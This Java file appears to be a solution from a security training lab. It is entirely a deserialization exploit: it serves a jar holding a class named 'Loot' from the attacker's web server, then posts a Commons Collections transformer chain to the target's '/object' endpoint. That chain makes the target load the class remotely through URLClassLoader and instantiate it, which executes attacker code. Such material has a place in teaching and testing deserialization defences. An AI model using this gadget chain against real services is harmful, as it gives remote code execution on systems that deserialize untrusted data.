import java.net.URL;
import java.util.Map;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InstantiateTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Collections3;

public class Attack {
  public static void main(String[] args) throws Exception {
    byte[] jar = Attacker.jar(Map.of("Loot.class", Attacker.classBytes(Loot.class)));
    Attacker.serve(Map.of("/a.jar", jar));
    URL[] urls = {new URL(Attacker.WEB + "/a.jar")};
    Attacker.post(
        "/object",
        Collections3.chain(
            new ConstantTransformer(java.net.URLClassLoader.class),
            new InstantiateTransformer(new Class<?>[] {URL[].class}, new Object[] {urls}),
            new InvokerTransformer(
                "loadClass", new Class<?>[] {String.class}, new Object[] {"Loot"}),
            new InstantiateTransformer(new Class<?>[0], new Object[0])));
    Attacker.done();
  }
}
